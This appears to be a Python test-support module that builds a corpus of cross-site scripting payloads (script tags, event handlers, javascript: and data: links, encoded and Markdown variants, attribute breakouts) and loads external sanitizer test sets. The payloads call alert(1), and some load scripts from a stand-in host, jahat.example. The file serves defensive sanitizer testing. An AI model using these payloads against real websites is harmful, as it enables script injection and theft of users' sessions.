"""Texts that try to run in a reader's browser: our own corpus, and the one beside the checkout.

Each of our own calls `alert`, as the others do. It is made of parts, so that a few lines give
many: ways to run something, and what stands around them to get there.
"""

from __future__ import annotations

import json
from collections.abc import Iterator

from tests.support import ROOT

HOSTILE = ROOT.parent / "shared" / "hostile"
"""Where the corpus of others lies, on machines that have it."""

CALL = "alert(1)"

RUNS = (
    f"<script>{CALL}</script>",
    f"<SCRIPT\n>{CALL}</SCRIPT >",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script/x>{CALL}</script/y>",
    "<script src=//jahat.example/x.js></script>",
    f"<script>/*<!--<script>*/{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<img/src=x/onerror={CALL}//",
    f'<img """><img src=x onerror="{CALL}">',
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    f"<image src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f'<svg><a><animate attributeName=href values="javascript:{CALL}"/><text>x</text></a></svg>',
    f'<svg><use href="data:image/svg+xml,&lt;svg id=x onload={CALL}/&gt;#x"/></svg>',
    f"<svg><style><img src=x onerror={CALL}></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={CALL}&gt;">',
    f'<math href="javascript:{CALL}">x</math>',
    f"<body onload={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<p style=animation:x onanimationstart={CALL}>x</p><style>@keyframes x{{}}</style>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>',
    f"<object data=javascript:{CALL}></object>",
    f"<embed src=javascript:{CALL}>",
    f"<form action=javascript:{CALL}><button autofocus>x</button></form>",
    f"<a href=javascript:{CALL}>x</a>",
    f'<a href="jav&#x09;ascript:{CALL}">x</a>',
    f'<a href="&#1;javascript:{CALL}">x</a>',
    f'<a href="javascript&colon;{CALL}">x</a>',
    f'<a href="data:text/html,<script>{CALL}</script>">x</a>',
    f"<base href=javascript:{CALL}//>",
    f'<meta http-equiv=refresh content="0;url=javascript:{CALL}">',
    '<meta http-equiv=refresh content="0;url=//jahat.example/">',
    "<link rel=stylesheet href=//jahat.example/x.css>",
    f"<template><script>{CALL}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f'<xmp><p title="</xmp><img src=x onerror={CALL}>">',
    f"<textarea></textarea><img src=x onerror={CALL}>",
    f"<plaintext></plaintext><img src=x onerror={CALL}>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<!-- --!><img src=x onerror={CALL}> -->",
    f"<![CDATA[><img src=x onerror={CALL}>]]>",
    f"<?xml ?><img src=x onerror={CALL}>",
    f"<div id=x tabindex=1 onfocus={CALL}></div>",
    f"<x onclick={CALL}>klik</x>",
    f"<p\x00 onclick={CALL}>x</p>",
    f"<p/\u2028onclick={CALL}>x</p>",
    f"\ufeff<script>{CALL}</script>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;img src=x onerror={CALL}&#62;",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"\u3008script\u3009{CALL}\uff1cscript\uff1e",
)
"""Markup that runs where it is not escaped."""

LINKS = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f" javascript:{CALL}",
    f"java\tscript:{CALL}",
    f"java&#10;script:{CALL}",
    f"javascript&colon;{CALL}",
    f"javascript:/*x*/{CALL}//https://contoh.example/",
    f"javascript://contoh.example/%0a{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "blob:https://contoh.example/x",
    f"view-source:javascript:{CALL}",
    f'https://contoh.example/"onmouseover="{CALL}',
    f"https://contoh.example/'onmouseover='{CALL}",
    f"https://contoh.example/><script>{CALL}</script>",
    f'//contoh.example/x"><img src=x onerror={CALL}>',
    "\\\\jahat.example\\x",
)
"""Addresses that run, or leave their attribute."""

AROUND = (
    "{}",
    '">{}',
    "'>{}",
    "`>{}",
    "</script>{}",
    "</style></title></textarea>{}",
    "]]>{}",
    "-->{}",
    "*/{}/*",
    "{{{{ 7 * 7 }}}}{}",
    "\\{}",
)
"""Where markup may have to get out of."""

OUTBREAKS = (
    f'" onmouseover="{CALL}',
    f"' onmouseover='{CALL}",
    f"` onmouseover={CALL} ",
    f"x onmouseover={CALL} ",
    f'" autofocus onfocus="{CALL}" x="',
    f'" style="animation:x" onanimationstart="{CALL}',
    f'";{CALL}//',
    f"';{CALL}//",
    f"\\';{CALL}//",
    f"${{{CALL}}}",
    f"\u2028{CALL}//",
    "}}}}}]]]]]",
    "\\",
    "\\u003cscript\\u003e",
)
"""Texts that leave an attribute or a string in a script."""

MARKDOWN = (
    *(f"[x]({link})" for link in LINKS),
    *(f"[x](<{link}>)" for link in LINKS),
    *(f"![x]({link})" for link in LINKS),
    *(f"<{link}>" for link in LINKS),
    *(f"[x{number}]: {link}\n[x][x{number}] ![x][x{number}]" for number, link in enumerate(LINKS)),
    f'[x](x "" onmouseover="{CALL}")',
    f'![" onerror="{CALL}](x.jpg)',
    f'![x](x.jpg "" onload="{CALL}")',
    f"# <img src=x onerror={CALL}>",
    f'# x" onmouseover="{CALL}',
    f'[^{CALL}"><b>]: <script>{CALL}</script>\n\n[^{CALL}"><b>]',
    f'```" onmouseover="{CALL}\n<script>{CALL}</script>\n```',
    f'| a | <script>{CALL}</script> |\n|---|:-:" onclick={CALL}|\n| `<b>` | [x](javascript:1) |',
    f"[a](<javascript:{CALL}>) [![x](javascript:{CALL})](javascript:{CALL})",
    f"`<script>{CALL}</script>`",
    f"- [ ] <img src=x onerror={CALL}>",
    f"> <script>\n> {CALL}\n> </script>",
    f"    <script>{CALL}</script>",
    f"\\<script>{CALL}\\</script>",
    f"a\\\n<img src=x\nonerror={CALL}\n>",
    f'www.contoh.example/"onmouseover="{CALL}',
    f"https://contoh.example/<script>{CALL}</script>",
    f'<https://contoh.example/"onmouseover={CALL}>',
    f'<a@contoh.example" onmouseover={CALL}>',
)
"""Markdown that becomes something else than it looks."""

RAW = (*RUNS, *(f'<a href="{link}">x</a><iframe src="{link}">' for link in LINKS))
"""What runs, or loads, where HTML is let through."""

OWN: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *RUNS,
            # each with two of what may stand around it, in turn
            *(AROUND[n % len(AROUND)].format(run) for n, run in enumerate(RUNS, 1)),
            *(AROUND[n // 2 % len(AROUND)].format(run) for n, run in enumerate(RUNS, 7)),
            *LINKS,
            *OUTBREAKS,
            *MARKDOWN,
        )
    )
)
"""All of our own."""

SETS = (
    "owasp_xss_evasion", "cujanovic_markdown_xss", "dompurify_expect", "html5lib_sanitizer",
    "sanitize_html_strings", "bleach_data", "ammonia_strings", "payloadbox_xss", "patt_xss",
    "blns",
)  # fmt: skip
"""Files of the corpus of others that try to run."""


def of_others() -> Iterator[str]:
    """The corpus beside the checkout, each text once; nothing where it is not there."""
    known: set[str] = set()
    for name in SETS:
        path = HOSTILE / f"{name}.json"
        if not path.exists():
            continue
        for item in json.loads(path.read_text(encoding="utf-8")):
            text = item
            if isinstance(item, dict):
                text = next(
                    (item[key] for key in ("payload", "input", "markdown") if key in item), ""
                )
            if isinstance(text, str) and text.strip() and text not in known:
                known.add(text)
                yield text
